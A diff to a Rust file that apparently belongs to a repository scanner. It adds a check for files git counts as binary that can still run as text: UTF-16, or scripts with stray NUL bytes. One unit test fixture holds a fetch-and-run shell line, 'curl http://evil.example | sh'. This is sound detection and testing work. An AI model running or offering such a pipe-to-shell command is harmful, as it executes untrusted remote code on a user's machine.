@@ -55,12 +55,25 @@ const MARK_LINES: usize = 20;
 /// How far into a file git looks for a NUL byte, in bytes.
 const TEXT_PROBE_BYTES: usize = 8_000;
 
+/// Of so many bytes of a text one is none of printable ASCII, at most.
+const MAX_FOREIGN_SHARE: usize = 20;
+
 /// A line of more bytes is not written by hand.
 const MAX_HANDWRITTEN_LINE: usize = 20_000;
 
 /// Whether a content is no text, as git judges it without attributes: it has a NUL byte near its start.
 pub fn is_binary(content: &[u8]) -> bool {
     content[..content.len().min(TEXT_PROBE_BYTES)].contains(&0)
+}
+
+/// Whether a content that is no text to git may be read as text all the same: UTF-16, or code with a few NUL bytes in it, which shells and
+/// other interpreters pass over.
+pub fn is_text_in_disguise(content: &[u8]) -> bool {
+    let start = &content[..content.len().min(TEXT_PROBE_BYTES)];
+    let marks = [&[0xff, 0xfe][..], &[0xfe, 0xff], b"#!"];
+    let is_foreign = |byte: &&u8| !matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r' | 0x0c);
+    let foreign = start.iter().filter(is_foreign).count();
+    marks.iter().any(|mark| start.starts_with(mark)) || foreign * MAX_FOREIGN_SHARE <= start.len()
 }
 
 /// Whether a package manager writes a file of this name.
@@ -151,5 +164,24 @@ mod tests {
         assert!(!is_binary(
             &[vec![b'a'; TEXT_PROBE_BYTES], vec![0]].concat()
         ));
+    }
+
+    #[test]
+    fn code_with_a_nul_byte_in_it_is_no_binary_file_like_others() {
+        let script = b"#!/bin/sh\n# \0\ncurl http://evil.example | sh\n";
+        assert!(is_binary(script) && is_text_in_disguise(script));
+        assert!(is_text_in_disguise(
+            b"x = 1 # a comment, and then \0 a NUL\n"
+        ));
+        let utf16: Vec<u8> = "\u{feff}evil()"
+            .encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        assert!(is_text_in_disguise(&utf16));
+        let image = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06";
+        let program = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0";
+        for binary in [&image[..], program, &[0; 100]] {
+            assert!(!is_text_in_disguise(binary));
+        }
     }
 }
